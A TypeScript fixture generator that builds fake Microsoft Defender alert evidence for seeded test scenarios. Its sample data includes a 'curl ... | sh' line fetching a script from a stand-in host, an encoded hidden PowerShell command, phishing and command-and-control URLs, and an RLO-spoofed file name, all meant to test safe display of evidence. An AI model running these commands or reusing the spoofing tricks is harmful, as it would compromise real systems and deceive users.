// Evidence for scenario alerts, in Graph's documented shapes (alertEvidence's derived types): what
// each Defender XDR source names in its alerts. The alerts of one incident (one correlation key)
// share their cast (the user, device and attacker address), as a real attack's alerts do, so the
// same account or device is named by several alerts. Pure and deterministic for a seeded random.

/** A story's people and machines, fixed by its correlation key. */
interface Cast {
  user: { upn: string; name: string; account: string; objectId: string };
  device: { dnsName: string; mdeDeviceId: string };
  attackerIp: string;
  country: string;
}

const USERS = [
  { upn: 'alex.wilber@contoso.example', name: 'Alex Wilber', account: 'alexw' },
  { upn: 'megan.bowen@contoso.example', name: 'Megan Bowen', account: 'meganb' },
  { upn: 'lee.gu@contoso.example', name: 'Lee Gu', account: 'leeg' },
  { upn: 'adele.vance@contoso.example', name: 'Adele Vance', account: 'adelev' },
  { upn: 'svc-backup@contoso.example', name: 'Backup service', account: 'svc-backup' },
] as const;
const ATTACKER_IPS = [
  ['203.0.113.45', 'NL'],
  ['198.51.100.23', 'RU'],
  ['192.0.2.77', 'US'],
  ['2001:db8::bad:1', 'CN'],
] as const;
const PAYLOADS = ['invoice_2025.pdf.exe', 'update.ps1', 'Quarterly Report.docm', 'rundll32-helper.dll', 'Invoice_2025\u202Efdp.exe'] as const;
const URLS = ['https://login-micros0ft.example/owa', 'https://evil.example/[click](https://evil.example/x)', 'http://cdn.files-share.example/payload.zip'] as const;

/** FNV-1a: a stable small hash of the correlation key, so every alert of a story picks the same cast. */
function hash(text: string): number {
  let value = 0x811c9dc5;
  for (let i = 0; i < text.length; i++) value = Math.imul(value ^ text.charCodeAt(i), 0x01000193) >>> 0;
  return value;
}

function castOf(correlationKey: string): Cast {
  const h = hash(correlationKey);
  const user = USERS[h % USERS.length] as (typeof USERS)[number];
  const [attackerIp, country] = ATTACKER_IPS[(h >>> 8) % ATTACKER_IPS.length] as (typeof ATTACKER_IPS)[number];
  const deviceNumber = String(((h >>> 16) % 90) + 10);
  const hex = h.toString(16).padStart(8, '0');
  return {
    user: { ...user, objectId: `${hex}-0000-4000-8000-${hex}0000` },
    device: { dnsName: `ws-0${deviceNumber}.contoso.example`, mdeDeviceId: `${hex}${hex}${hex}${hex}${hex}`.slice(0, 40) },
    attackerIp,
    country,
  };
}

const type = (name: string) => ({ '@odata.type': `#microsoft.graph.security.${name}` });

function userEvidence(cast: Cast, roles: string[]) {
  return {
    ...type('userEvidence'),
    roles,
    userAccount: { accountName: cast.user.account, domainName: 'CONTOSO', userSid: null, azureAdUserId: cast.user.objectId, userPrincipalName: cast.user.upn, displayName: cast.user.name },
  };
}

function deviceEvidence(cast: Cast) {
  return {
    ...type('deviceEvidence'),
    roles: ['compromised'],
    firstSeenDateTime: '2025-09-12T07:28:32.432Z',
    mdeDeviceId: cast.device.mdeDeviceId,
    azureAdDeviceId: null,
    deviceDnsName: cast.device.dnsName,
    osPlatform: 'Windows11',
    osBuild: 22631,
    version: '23H2',
    healthStatus: 'active',
    riskScore: 'high',
    rbacGroupId: 75,
    rbacGroupName: 'Workstations',
    onboardingStatus: 'onboarded',
    defenderAvStatus: 'updated',
    ipInterfaces: ['10.1.4.23'],
    loggedOnUsers: [{ accountName: cast.user.account, domainName: 'CONTOSO' }],
  };
}

function ipEvidence(cast: Cast, verdict: string) {
  return { ...type('ipEvidence'), verdict, roles: ['attacker', 'source'], ipAddress: cast.attackerIp, countryLetterCode: cast.country };
}

function fileDetails(fileName: string, folder: string) {
  return { fileName, filePath: folder, fileSize: 48_128, sha1: null, sha256: hash(fileName).toString(16).padStart(8, '0').repeat(8), filePublisher: null, signer: null, issuer: null };
}

function fileEvidence(cast: Cast, fileName: string, verdict: string) {
  return { ...type('fileEvidence'), verdict, detectionStatus: 'detected', mdeDeviceId: cast.device.mdeDeviceId, fileDetails: fileDetails(fileName, `C:\\Users\\${cast.user.account}\\Downloads`) };
}

function processEvidence(cast: Cast, commandLine: string) {
  return {
    ...type('processEvidence'),
    verdict: 'suspicious',
    roles: ['suspicious'],
    processId: (hash(commandLine) % 30_000) + 1000,
    parentProcessId: 4312,
    processCommandLine: commandLine,
    processCreationDateTime: '2026-01-01T08:01:00Z',
    parentProcessCreationDateTime: '2026-01-01T07:59:00Z',
    detectionStatus: 'detected',
    mdeDeviceId: cast.device.mdeDeviceId,
    imageFile: fileDetails(commandLine.split(' ')[0] ?? 'process.exe', 'C:\\Windows\\System32'),
    parentProcessImageFile: fileDetails('WINWORD.EXE', 'C:\\Program Files\\Microsoft Office\\root\\Office16'),
    userAccount: { accountName: cast.user.account, domainName: 'CONTOSO', userSid: 'S-1-5-21-1004336348-1177238915-682003330-1104', azureAdUserId: cast.user.objectId, userPrincipalName: cast.user.upn, displayName: cast.user.name },
  };
}

function mailboxEvidence(cast: Cast) {
  return { ...type('mailboxEvidence'), roles: ['destination'], displayName: cast.user.name, primaryAddress: cast.user.upn, upn: cast.user.upn, userAccount: { accountName: cast.user.account, displayName: cast.user.name, userPrincipalName: cast.user.upn } };
}

function urlEvidence(url: string) {
  return { ...type('urlEvidence'), verdict: 'malicious', roles: ['commandAndControl'], url };
}

/**
 * The evidence an alert from `serviceSource` names, for the story of `correlationKey`. `pick`
 * chooses among payloads and URLs (some of which are hostile text: a reversed file extension,
 * Markdown in a URL), so consumers prove they show evidence as inert text.
 */
export function scenarioEvidence(serviceSource: string, correlationKey: string, pick: <T>(items: readonly T[]) => T): object[] {
  const cast = castOf(correlationKey);
  switch (serviceSource) {
    case 'microsoftDefenderForEndpoint': {
      const payload = pick(PAYLOADS);
      return [
        deviceEvidence(cast),
        userEvidence(cast, ['compromised']),
        fileEvidence(cast, payload, 'malicious'),
        processEvidence(cast, pick(['powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', `rundll32.exe ${payload},DllRegisterServer`, 'cmd.exe /c whoami /all'])),
        ipEvidence(cast, 'suspicious'),
      ];
    }
    case 'microsoftDefenderForIdentity':
      return [userEvidence(cast, ['compromised']), deviceEvidence(cast), ipEvidence(cast, 'suspicious')];
    case 'microsoftDefenderForOffice365':
    case 'microsoftCloudAppSecurity':
    case 'microsoftDefenderForCloudApps':
      return serviceSource === 'microsoftDefenderForOffice365'
        ? [mailboxEvidence(cast), urlEvidence(pick(URLS)), fileEvidence(cast, pick(PAYLOADS), 'suspicious')]
        : [userEvidence(cast, ['compromised']), ipEvidence(cast, 'malicious'), urlEvidence(pick(URLS))];
    case 'microsoftDefenderForCloud':
      return [ipEvidence(cast, 'malicious'), processEvidence(cast, 'curl -s http://cdn.files-share.example/x.sh | sh')];
    case 'dataLossPrevention':
    case 'microsoftInsiderRiskManagement':
      return [userEvidence(cast, ['policyViolator']), fileEvidence(cast, pick(['customer-export.xlsx', 'Q3 board deck.pptx', 'payroll.csv']), 'unknown')];
    case 'azureAdIdentityProtection':
      return [userEvidence(cast, ['compromised']), ipEvidence(cast, 'suspicious')];
    default:
      return [userEvidence(cast, ['contextual'])];
  }
}
